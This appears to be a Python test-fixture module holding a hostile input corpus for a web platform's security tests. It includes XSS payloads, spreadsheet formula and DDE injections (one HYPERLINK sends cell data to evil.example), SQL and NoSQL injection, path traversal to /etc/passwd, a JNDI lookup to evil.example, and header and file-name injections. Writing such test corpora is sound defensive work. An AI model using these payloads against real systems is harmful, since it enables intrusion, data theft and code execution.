"""A hostile corpus, written once as data: what people (or bots) type into forms and spreadsheets.

Every form, import and export of the platform is fed from here (tests/security/test_hostile_corpus.py,
test_hostile_files.py). Each XSS payload carries MARK, so a page can be searched for markup that came from
the data rather than from a template (see tests/security/html_checks.py).
"""

from __future__ import annotations

MARK = "xssmark"

XSS = [
    f"<script>alert('{MARK}1')</script>",
    f"\"><img src=x onerror=alert('{MARK}2')>",
    f"'><svg/onload=alert('{MARK}3')>",
    f"javascript:alert('{MARK}4')",
    f"</textarea></title><script>alert('{MARK}5')</script>",
    f"<a href=\"javascript:alert('{MARK}6')\">clic</a>",
    f"<iframe src=\"//evil.example/{MARK}7\"></iframe>",
    f"\" autofocus onfocus=alert('{MARK}8') x=\"",
    f"<style>@import 'https://evil.example/{MARK}9.css';</style>",
    f"{{{{7*7}}}}{{% raw %}}{MARK}10",  # template injection: must stay literal text
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}11')>",
    f"<<script>alert('{MARK}12');//<</script>",
]

FORMULAS = [
    "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Ver\")",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "=cmd|'/c notepad'!'A1'",
]

OVERLONG = [
    "A" * 301,
    "ñ" * 5_000,
    "x" * 100_000,
]

CONTROL = [
    "Ana\x00Ruiz",
    "\x00",
    "Rosa\x01\x08\x1b[31mroja",
    "línea uno\r\nlínea dos",
    "asunto\r\nBcc: intruso@evil.example",
]

UNICODE = [
    "\u202eexe.fdp",  # right-to-left override
    "Ana\u200bRuiz\u200d",  # zero-width space and joiner
    "\ufeffBOM al inicio",
    "\u2066aislado\u2069 \u200f",
    "Z\u0335\u0321a\u0337l\u0336g\u0338o\u0335",
    "👩🏽‍⚖️ jueza",
    "𝕍í𝕟𝕔𝕦𝕝𝕠",
    "\u00a0\u2003espacios\u3000raros\u00a0",
]

INJECTION = [
    "Robert'); DROP TABLE person;--",
    "%_\\ comodines de LIKE",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{\"$gt\": \"\"}",
    "²³",  # str.isdigit() says yes, int() says no
    "٣٤",  # Arabic-Indic digits: int() reads them as 34
]

NUMBERS = ["99999999999999999999", "999999999999", "-5", "0", "1e308", "NaN", "0x1F"]

CORPUS: list[str] = XSS + FORMULAS + OVERLONG + CONTROL + UNICODE + INJECTION + NUMBERS

# A short selection for places where every value costs a request per field.
SAMPLE: list[str] = [XSS[0], XSS[1], XSS[3], XSS[7], XSS[9], FORMULAS[0], FORMULAS[2], FORMULAS[5], OVERLONG[0],
                     OVERLONG[2], CONTROL[0], CONTROL[4], UNICODE[0], UNICODE[1], INJECTION[0], INJECTION[5],
                     NUMBERS[0], NUMBERS[2]]

# For query strings: every argument of a URL at once gets one of these.
ARGUMENTS: list[str] = [XSS[1], INJECTION[5], INJECTION[1], NUMBERS[0], NUMBERS[2], NUMBERS[4], CONTROL[0],
                        "A" * 5_000, "", "0"]

# Cells of a spreadsheet: what a file may carry that a browser form cannot (spreadsheets hold no NUL bytes,
# so control characters live in the CSV corpus only).
CELLS: list[str] = XSS + FORMULAS + UNICODE + INJECTION + [CONTROL[2], CONTROL[3]]

# File names as an upload may claim them.
FILENAMES = [
    "../../../etc/passwd.csv",
    "..\\..\\windows\\win.ini.csv",
    f"<script>alert('{MARK}f')</script>.csv",
    "nombre\r\nX-Inyectada: 1.csv",
    "\u202evsc.exe",
    "a" * 300 + ".csv",
]

DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def printable(value: str, limit: int = 40) -> str:
    """A short, readable form of a payload for assertion messages."""
    text = value.encode("unicode_escape").decode("ascii")
    return text if len(text) <= limit else text[:limit] + f"...({len(value)} chars)"
